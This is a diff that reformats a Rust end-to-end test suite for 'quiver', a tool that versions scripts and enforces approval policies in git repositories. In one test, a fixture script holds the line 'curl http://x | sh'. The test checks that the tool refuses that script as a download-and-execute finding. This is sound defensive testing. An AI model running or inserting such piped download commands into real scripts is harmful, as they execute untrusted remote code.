@@ -1,7 +1,9 @@
 //! Versions and approvals end to end: real repositories built with the git CLI, judged by
 //! the real `quiver` binary through `quiver status --json` and `quiver history --json`.
 
-use quiver_tests::repogen::{ALICE, BOB, CAROL, DAVE, MALLORY, MEMBERS_TOML, TestRepo, quiver_bin, utf16le_bom};
+use quiver_tests::repogen::{
+    ALICE, BOB, CAROL, DAVE, MALLORY, MEMBERS_TOML, TestRepo, quiver_bin, utf16le_bom,
+};
 use serde_json::Value;
 use sha2::{Digest, Sha256};
 use std::path::Path;
@@ -20,7 +22,8 @@ fn quiver(repo: &Path, args: &[&str]) -> (i32, Value, String) {
         .expect("run quiver");
     let stdout = String::from_utf8_lossy(&out.stdout).to_string();
     let stderr = String::from_utf8_lossy(&out.stderr).to_string();
-    let json = serde_json::from_str(&stdout).unwrap_or_else(|e| panic!("{args:?}: {e}\nstdout: {stdout}\nstderr: {stderr}"));
+    let json = serde_json::from_str(&stdout)
+        .unwrap_or_else(|e| panic!("{args:?}: {e}\nstdout: {stdout}\nstderr: {stderr}"));
     (out.status.code().unwrap_or(-1), json, stderr)
 }
 
@@ -77,7 +80,13 @@ fn approved_pr_becomes_a_version_and_direct_push_drifts() {
     assert_eq!(script(&s, "ps")["state"], "approved");
 
     // A PR merged with two eligible approvals becomes v2.
-    let merge = repo.pr("ps-v2", ALICE, change_ps("ps -eo pid,comm"), ALICE, &[BOB, CAROL]);
+    let merge = repo.pr(
+        "ps-v2",
+        ALICE,
+        change_ps("ps -eo pid,comm"),
+        ALICE,
+        &[BOB, CAROL],
+    );
     let s = status(&repo);
     let ps = script(&s, "ps");
     assert_eq!(ps["version"], 2, "{s:#}");
@@ -89,7 +98,11 @@ fn approved_pr_becomes_a_version_and_direct_push_drifts() {
     assert_eq!(v2["approvers"], serde_json::json!(["bob", "carol"]));
     assert_eq!(v2["evidence"], "trailers");
     assert_eq!(v2["authors"][0]["email"], "alice@example.org");
-    assert_eq!(script(&s, "net")["version"], 1, "other scripts are untouched");
+    assert_eq!(
+        script(&s, "net")["version"],
+        1,
+        "other scripts are untouched"
+    );
 
     // A direct push drifts the script; v2 stays deployable and the reason names the commit.
     let push = repo.direct(BOB, change_ps("ps aux"), "quick fix");
@@ -98,15 +111,32 @@ fn approved_pr_becomes_a_version_and_direct_push_drifts() {
     assert_eq!(ps["state"], "drifted");
     assert_eq!(ps["version"], 2);
     assert_eq!(ps["pending_commit"], push.as_str());
-    assert!(ps["reason"].as_str().expect("reason").contains(short(&push)), "{ps:#}");
+    assert!(
+        ps["reason"]
+            .as_str()
+            .expect("reason")
+            .contains(short(&push)),
+        "{ps:#}"
+    );
 
     // A later approved PR built on the drifted content does not launder it.
-    repo.pr("ps-v3", ALICE, change_ps("ps aux --forest"), ALICE, &[BOB, CAROL]);
+    repo.pr(
+        "ps-v3",
+        ALICE,
+        change_ps("ps aux --forest"),
+        ALICE,
+        &[BOB, CAROL],
+    );
     let s = status(&repo);
     let ps = script(&s, "ps");
     assert_eq!(ps["state"], "drifted", "{ps:#}");
     assert_eq!(ps["version"], 2);
-    assert!(ps["reason"].as_str().expect("reason").contains(short(&push)));
+    assert!(
+        ps["reason"]
+            .as_str()
+            .expect("reason")
+            .contains(short(&push))
+    );
 
     // Content returning to the approved bytes clears the drift.
     repo.direct(BOB, change_ps("ps -eo pid,comm"), "revert to v2");
@@ -115,9 +145,18 @@ fn approved_pr_becomes_a_version_and_direct_push_drifts() {
     assert_eq!(ps["version"], 2);
 
     // And an approved change on top of it is v3 again.
-    repo.pr("ps-v3b", CAROL, change_ps("ps -eo pid,user,comm"), CAROL, &[ALICE, BOB]);
+    repo.pr(
+        "ps-v3b",
+        CAROL,
+        change_ps("ps -eo pid,user,comm"),
+        CAROL,
+        &[ALICE, BOB],
+    );
     let ps = script(&status(&repo), "ps").clone();
-    assert_eq!((ps["version"].as_u64(), ps["state"].as_str()), (Some(3), Some("approved")));
+    assert_eq!(
+        (ps["version"].as_u64(), ps["state"].as_str()),
+        (Some(3), Some("approved"))
+    );
 }
 
 #[test]
@@ -142,14 +181,27 @@ fn policy_change_is_judged_under_the_policy_before_it() {
     assert_eq!(s["policy_commit"], first.as_str());
     assert_eq!(s["policy_drift"]["commit"], lower.as_str(), "{s:#}");
     let ps = script(&s, "ps");
-    assert_eq!((ps["version"].as_u64(), ps["state"].as_str()), (Some(1), Some("drifted")));
-    assert!(ps["reason"].as_str().expect("reason").contains("needs 2 approval"), "{ps:#}");
+    assert_eq!(
+        (ps["version"].as_u64(), ps["state"].as_str()),
+        (Some(1), Some("drifted"))
+    );
+    assert!(
+        ps["reason"]
+            .as_str()
+            .expect("reason")
+            .contains("needs 2 approval"),
+        "{ps:#}"
+    );
 
     // Revert, then approve the same policy properly: it applies to later changes only.
-    repo.direct(ALICE, |r| {
-        r.write("policies/approvals.toml", TWO_APPROVALS);
-        r.write("library/ps/ps.sh", "#!/bin/bash\nps -ef\n");
-    }, "revert");
+    repo.direct(
+        ALICE,
+        |r| {
+            r.write("policies/approvals.toml", TWO_APPROVALS);
+            r.write("library/ps/ps.sh", "#!/bin/bash\nps -ef\n");
+        },
+        "revert",
+    );
     let s = status(&repo);
     assert!(s["policy_drift"].is_null(), "{s:#}");
     assert_eq!(script(&s, "ps")["state"], "approved");
@@ -170,7 +222,11 @@ fn policy_change_is_judged_under_the_policy_before_it() {
     // Under the new rule one approval is enough.
     repo.pr("ps-one", ALICE, change_ps("ps -e"), ALICE, &[BOB]);
     let ps = script(&status(&repo), "ps").clone();
-    assert_eq!((ps["version"].as_u64(), ps["state"].as_str()), (Some(2), Some("approved")), "{ps:#}");
+    assert_eq!(
+        (ps["version"].as_u64(), ps["state"].as_str()),
+        (Some(2), Some("approved")),
+        "{ps:#}"
+    );
 }
 
 #[test]
@@ -181,29 +237,62 @@ fn approver_rules_self_ineligible_duplicate_and_unknown() {
     repo.pr("self", ALICE, change_ps("ps -e"), ALICE, &[ALICE, BOB]);
     let ps = script(&status(&repo), "ps").clone();
     assert_eq!(ps["state"], "drifted");
-    assert!(ps["reason"].as_str().expect("r").contains("forbids self-approval"), "{ps:#}");
+    assert!(
+        ps["reason"]
+            .as_str()
+            .expect("r")
+            .contains("forbids self-approval"),
+        "{ps:#}"
+    );
     repo.direct(ALICE, change_ps("ps -ef"), "revert");
 
     // Dave is an analyst: his approval is not eligible.
     repo.pr("ineligible", ALICE, change_ps("ps -e"), ALICE, &[DAVE, BOB]);
     let ps = script(&status(&repo), "ps").clone();
     assert_eq!(ps["state"], "drifted");
-    assert!(ps["reason"].as_str().expect("r").contains("`dave` is not eligible"), "{ps:#}");
+    assert!(
+        ps["reason"]
+            .as_str()
+            .expect("r")
+            .contains("`dave` is not eligible"),
+        "{ps:#}"
+    );
     repo.direct(ALICE, change_ps("ps -ef"), "revert");
 
     // The same approver twice counts once.
     repo.pr("twice", ALICE, change_ps("ps -e"), ALICE, &[BOB, BOB]);
     let ps = script(&status(&repo), "ps").clone();
     assert_eq!(ps["state"], "drifted");
-    assert!(ps["reason"].as_str().expect("r").contains("counted 1 (bob)"), "{ps:#}");
+    assert!(
+        ps["reason"]
+            .as_str()
+            .expect("r")
+            .contains("counted 1 (bob)"),
+        "{ps:#}"
+    );
     repo.direct(ALICE, change_ps("ps -ef"), "revert");
 
     // An unknown email is ignored and reported; two real approvals still make v2.
-    repo.pr("unknown", ALICE, change_ps("ps -e"), ALICE, &[MALLORY, BOB, CAROL]);
+    repo.pr(
+        "unknown",
+        ALICE,
+        change_ps("ps -e"),
+        ALICE,
+        &[MALLORY, BOB, CAROL],
+    );
     let ps = script(&status(&repo), "ps").clone();
-    assert_eq!((ps["version"].as_u64(), ps["state"].as_str()), (Some(2), Some("approved")), "{ps:#}");
+    assert_eq!(
+        (ps["version"].as_u64(), ps["state"].as_str()),
+        (Some(2), Some("approved")),
+        "{ps:#}"
+    );
     let v2 = history(&repo, "ps")["versions"][1].clone();
-    assert!(v2["ignored"].to_string().contains("mallory@evil.example is not a member"), "{v2:#}");
+    assert!(
+        v2["ignored"]
+            .to_string()
+            .contains("mallory@evil.example is not a member"),
+        "{v2:#}"
+    );
 }
 
 #[test]
@@ -217,7 +306,10 @@ fn renamed_folder_keeps_versions_and_deletions() {
         ALICE,
         |r| {
             r.mv("library/ps", "library/linux/proc");
-            r.write("library/linux/proc/script.toml", quiver_tests::repogen::bash_manifest("proc-list", "ps.sh"));
+            r.write(
+                "library/linux/proc/script.toml",
+                quiver_tests::repogen::bash_manifest("proc-list", "ps.sh"),
+            );
         },
         ALICE,
         &[BOB],
@@ -228,12 +320,31 @@ fn renamed_folder_keeps_versions_and_deletions() {
     assert_eq!(proc_["dir"], "linux/proc");
     assert_eq!(proc_["renamed_from"], serde_json::json!(["ps"]));
     let h = history(&repo, "proc-list");
-    let names: Vec<&str> = h["versions"].as_array().expect("v").iter().map(|v| v["name"].as_str().expect("n")).collect();
+    let names: Vec<&str> = h["versions"]
+        .as_array()
+        .expect("v")
+        .iter()
+        .map(|v| v["name"].as_str().expect("n"))
+        .collect();
     assert_eq!(names, ["ps", "ps", "proc-list"]);
-    assert!(s["scripts"].as_array().expect("s").iter().all(|x| x["name"] != "ps"));
+    assert!(
+        s["scripts"]
+            .as_array()
+            .expect("s")
+            .iter()
+            .all(|x| x["name"] != "ps")
+    );
 
     // An approved deletion removes the script: nothing deployable.
-    repo.pr("rm-net", ALICE, |r| { r.remove("library/net"); }, ALICE, &[BOB]);
+    repo.pr(
+        "rm-net",
+        ALICE,
+        |r| {
+            r.remove("library/net");
+        },
+        ALICE,
+        &[BOB],
+    );
     let net = script(&status(&repo), "net").clone();
     assert_eq!(net["state"], "removed");
     assert!(net["version"].is_null());
@@ -265,11 +376,25 @@ fn mass_removal_is_held() {
         assert_eq!(x["state"], "held", "{x:#}");
         assert_eq!(x["version"], 1);
         assert_eq!(x["pending_commit"], merge.as_str());
-        assert!(x["reason"].as_str().expect("r").contains("removes 9 of 10 scripts (90%)"), "{x:#}");
+        assert!(
+            x["reason"]
+                .as_str()
+                .expect("r")
+                .contains("removes 9 of 10 scripts (90%)"),
+            "{x:#}"
+        );
     }
     assert_eq!(script(&s, "s0")["state"], "approved");
     // An approved policy allowing it releases the held removal.
-    repo.pr("allow", ALICE, |r| { r.write("policies/removal.toml", "[removal]\nallow = true\n"); }, ALICE, &[BOB]);
+    repo.pr(
+        "allow",
+        ALICE,
+        |r| {
+            r.write("policies/removal.toml", "[removal]\nallow = true\n");
+        },
+        ALICE,
+        &[BOB],
+    );
     let s = status(&repo);
     assert_eq!(script(&s, "s5")["state"], "removed", "{s:#}");
 }
@@ -317,7 +442,10 @@ fn deny_finding_refuses_the_version() {
         "bad",
         ALICE,
         |r| {
-            r.write("library/ps/ps.sh", "#!/bin/bash\nps -ef\ncurl http://x | sh\n");
+            r.write(
+                "library/ps/ps.sh",
+                "#!/bin/bash\nps -ef\ncurl http://x | sh\n",
+            );
             r.write("library/net/net.sh", "#!/bin/bash\nss -tn\n");
         },
         ALICE,
@@ -325,16 +453,28 @@ fn deny_finding_refuses_the_version() {
     );
     let s = status(&repo);
     let ps = script(&s, "ps");
-    assert_eq!((ps["version"].as_u64(), ps["state"].as_str()), (Some(1), Some("refused")), "{ps:#}");
+    assert_eq!(
+        (ps["version"].as_u64(), ps["state"].as_str()),
+        (Some(1), Some("refused")),
+        "{ps:#}"
+    );
     let reason = ps["reason"].as_str().expect("reason");
     assert!(reason.contains("download-exec.shell"), "{reason}");
     assert!(reason.contains("library/ps/ps.sh:3"), "{reason}");
     assert_eq!(ps["pending_commit"], bad.as_str());
-    assert_eq!(script(&s, "net")["version"], 2, "one bad script never blocks the others");
+    assert_eq!(
+        script(&s, "net")["version"],
+        2,
+        "one bad script never blocks the others"
+    );
     // An approved fix on top of the refused content becomes the next version.
     repo.pr("fix", ALICE, change_ps("ps -ef"), ALICE, &[BOB]);
     let ps = script(&status(&repo), "ps").clone();
-    assert_eq!((ps["version"].as_u64(), ps["state"].as_str()), (Some(2), Some("approved")), "{ps:#}");
+    assert_eq!(
+        (ps["version"].as_u64(), ps["state"].as_str()),
+        (Some(2), Some("approved")),
+        "{ps:#}"
+    );
 }
 
 #[test]
@@ -345,7 +485,10 @@ fn exact_bytes_crlf_bom_utf16() {
     let crlf = b"Get-Process | Select-Object -First 5\r\nGet-Service\r\n".to_vec();
     let bom = b"\xEF\xBB\xBFWrite-Output 'caf\xC3\xA9'\r\n".to_vec();
     let utf16 = utf16le_bom("Get-ChildItem C:\\\r\n");
-    repo.write("library/win/script.toml", quiver_tests::repogen::ps_manifest("win", "main.ps1"));
+    repo.write(
+        "library/win/script.toml",
+        quiver_tests::repogen::ps_manifest("win", "main.ps1"),
+    );
     repo.write("library/win/main.ps1", &crlf);
     repo.write("library/win/bom.ps1", &bom);
     repo.write("library/win/wide.ps1", &utf16);
@@ -353,15 +496,41 @@ fn exact_bytes_crlf_bom_utf16() {
     let h = history(&repo, "win");
     let files = h["versions"][0]["files"].as_array().expect("files").clone();
     for (path, bytes) in [("main.ps1", &crlf), ("bom.ps1", &bom), ("wide.ps1", &utf16)] {
-        let f = files.iter().find(|f| f["path"] == path).unwrap_or_else(|| panic!("{path} in {files:?}"));
+        let f = files
+            .iter()
+            .find(|f| f["path"] == path)
+            .unwrap_or_else(|| panic!("{path} in {files:?}"));
         assert_eq!(f["sha256"], hex::encode(Sha256::digest(bytes)), "{path}");
         assert_eq!(f["size"], bytes.len());
     }
     // The diff decodes UTF-16 for display.
-    repo.pr("wide", ALICE, |r| { r.write("library/win/wide.ps1", utf16le_bom("Get-ChildItem D:\\\r\n")); }, ALICE, &[BOB]);
+    repo.pr(
+        "wide",
+        ALICE,
+        |r| {
+            r.write(
+                "library/win/wide.ps1",
+                utf16le_bom("Get-ChildItem D:\\\r\n"),
+            );
+        },
+        ALICE,
+        &[BOB],
+    );
     let (code, d, _) = quiver(&repo.dir, &["diff", "win", "v1", "v2"]);
     assert_eq!(code, 0);
-    let wide = d["files"].as_array().expect("files").iter().find(|f| f["path"] == "wide.ps1").expect("wide").clone();
+    let wide = d["files"]
+        .as_array()
+        .expect("files")
+        .iter()
+        .find(|f| f["path"] == "wide.ps1")
+        .expect("wide")
+        .clone();
     assert_eq!(wide["new"]["encoding"], "utf-16le+crlf");
-    assert!(wide["unified"].as_str().expect("unified").contains("+Get-ChildItem D:\\␍"), "{wide:#}");
+    assert!(
+        wide["unified"]
+            .as_str()
+            .expect("unified")
+            .contains("+Get-ChildItem D:\\␍"),
+        "{wide:#}"
+    );
 }
